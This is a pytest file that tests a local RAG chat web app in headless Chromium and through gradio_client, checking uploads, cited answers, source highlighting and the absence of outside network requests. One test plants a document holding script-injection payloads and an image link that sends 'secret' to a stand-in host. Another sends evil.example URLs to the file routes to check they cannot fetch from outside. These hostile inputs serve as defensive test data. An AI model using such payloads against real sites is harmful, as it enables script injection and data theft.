"""The chat page in a real browser (Debian's Chromium driven by Playwright) and through gradio_client.

`rag serve` runs in a subprocess on loopback with every non-loopback connection blocked; the
browser records every request the page makes.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run", "--disable-quic",
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, url: str, process: subprocess.Popen[str], egress_log: Path, log: Path) -> None:
        self.url, self.process, self.egress_log, self.log = url, process, egress_log, log


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("serve")
    port = free_port()
    egress, log = tmp / "egress.log", tmp / "serve.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, str(HERE / "guarded_cli.py"), str(egress), "serve", "--port", str(port), "--index", str(tmp / "index")],
            stdout=out, stderr=subprocess.STDOUT, text=True, cwd=tmp,
        )
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except OSError:
            if process.poll() is not None:
                pytest.fail("rag serve exited: " + log.read_text())
            time.sleep(0.5)
    else:
        process.kill()
        pytest.fail("rag serve did not come up: " + log.read_text())
    yield Server(url, process, egress, log)
    process.terminate()
    try:
        process.wait(timeout=15)
    except subprocess.TimeoutExpired:
        process.kill()
    assert not egress.exists(), f"the server tried to reach the network: {egress.read_text()}"


@pytest.fixture
def page(server: Server, tmp_path: Path):
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        page = context.new_page()
        page.requests = []  # type: ignore[attr-defined]
        page.on("request", lambda r: page.requests.append(r.url))  # type: ignore[attr-defined]
        page.goto(server.url)
        page.wait_for_selector("#question textarea", timeout=60_000)
        yield page
        context.close()
        browser.close()


def upload(page, path: Path) -> None:
    page.get_by_text("Documents", exact=True).first.click()
    page.locator("#upload input[type=file]").set_input_files(str(path))
    page.wait_for_function(
        "() => document.querySelector('#ingest-report') && document.querySelector('#ingest-report').innerText.includes('Indexed')",
        timeout=120_000,
    )


def ask(page, question: str) -> None:
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "() => { const s = document.querySelector('#sources'); return s && (s.querySelector('mark') || s.innerText.includes('Not answered')); }",
        timeout=180_000,
    )


def test_upload_ask_and_see_highlighted_sources(page, server: Server, tmp_path: Path) -> None:
    doc = tmp_path / "orchard-guide.md"
    doc.write_text(
        "# Orchard guide\n\nThe Bramble Hill orchard grows 340 apple trees of the Katy variety. "
        "Harvest starts in the second week of September.\n\n## Pruning\n\nTrees are pruned every February.\n",
        encoding="utf-8",
    )
    upload(page, doc)
    assert "Indexed 1 new" in page.locator("#ingest-report").inner_text()
    ask(page, "How many apple trees does the Bramble Hill orchard grow?")
    answer = page.locator("#chat .message").last.inner_text()
    assert "[1]" in answer or "[2]" in answer, answer
    sources = page.locator("#sources")
    assert "orchard-guide.md" in sources.inner_text()
    assert "340 apple trees" in sources.locator("mark").first.inner_text()
    page.screenshot(path=str(tmp_path / "chat-answer.png"), full_page=True)
    assert (tmp_path / "chat-answer.png").stat().st_size > 10_000
    port = server.url.rstrip("/").rsplit(":", 1)[1]
    outside = [u for u in page.requests if not u.startswith((f"http://127.0.0.1:{port}", "data:", "blob:"))]
    assert outside == []


def test_hostile_document_stays_inert(page, server: Server, tmp_path: Path) -> None:
    doc = tmp_path / "hostile.md"
    doc.write_text(
        "# Zorblat facts\n\nThe zorblat festival is held every June in Quimper. "
        "![x](http://example.invalid/?q=secret) <img src=x onerror=\"document.title='pwned'\"> "
        "<script>document.title='pwned'</script>\n",
        encoding="utf-8",
    )
    upload(page, doc)
    ask(page, "When is the zorblat festival held?")
    time.sleep(1)
    assert page.title() != "pwned"
    assert page.locator("#chat img[src*='example.invalid'], #sources img, #chat img[src='x']").count() == 0
    assert not [u for u in page.requests if "example.invalid" in u]
    assert "zorblat" in page.locator("#sources").inner_text().lower()


def test_api_streams_answers_and_reports_upload_errors(server: Server, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    client = Client(server.url, verbose=False)
    good = tmp_path / "tides.txt"
    good.write_text("High tide at Port Evander is at 06:40 on Sundays.\n", encoding="utf-8")
    bad = tmp_path / "broken.pdf"
    bad.write_bytes(b"%PDF-1.4 not really a pdf")
    report, status, _ = client.predict([handle_file(str(good)), handle_file(str(bad))], api_name="/upload")
    assert "Indexed 1 new" in report
    assert "broken.pdf" in report and "corrupt-pdf" in report

    job = client.submit("When is high tide at Port Evander on Sundays?", [], 5, 0.0, 200, api_name="/ask")
    updates = list(job)
    assert len(updates) >= 2  # a searching state, then the answer as it streams
    chat, sources, rewritten, _ = job.result()
    assert "tides.txt" in sources and "<mark>" in sources, chat
    assert rewritten == "When is high tide at Port Evander on Sundays?"

    empty_chat, *_ = client.predict("", [], 5, 0.0, 200, api_name="/ask")
    assert empty_chat == []

    # the index folder is never served as files
    index = Path(server.log).parent / "index"
    uploaded = next((index / "uploads").rglob("tides.txt"))
    for path in (index / "manifest.json", uploaded):
        assert path.exists()
        for prefix in ("gradio_api/file=", "file="):
            try:
                with urllib.request.urlopen(f"{server.url}{prefix}{path}", timeout=10) as response:
                    assert response.status >= 400 or b"Port Evander" not in response.read()
            except urllib.error.HTTPError as err:
                assert err.code in (403, 404)

    # remove a document: it is gone from the index and from answers
    sources = [str(uploaded.resolve())]
    report, status, _ = client.predict(sources, api_name="/remove")
    assert "Removed 1 file" in report
    chat, sources_html, _, _ = client.predict("When is high tide at Port Evander on Sundays?", [], 5, 0.0, 200, api_name="/ask")
    assert "tides.txt" not in sources_html


def test_file_routes_never_fetch_a_url(server: Server) -> None:
    """`/gradio_api/file=URL` must not make the server connect anywhere (the egress log stays empty)."""
    for target in ("https://93.184.215.14/x.png", "http://evil.example/x", "http%3A//evil.example/x", "//evil.example/x"):
        for prefix in ("gradio_api/file=", "file="):
            try:
                with urllib.request.urlopen(f"{server.url}{prefix}{target}", timeout=10) as response:
                    status = response.status
            except urllib.error.HTTPError as err:
                status = err.code
            assert status in (403, 404), (prefix, target, status)
    assert not server.egress_log.exists(), server.egress_log.read_text()
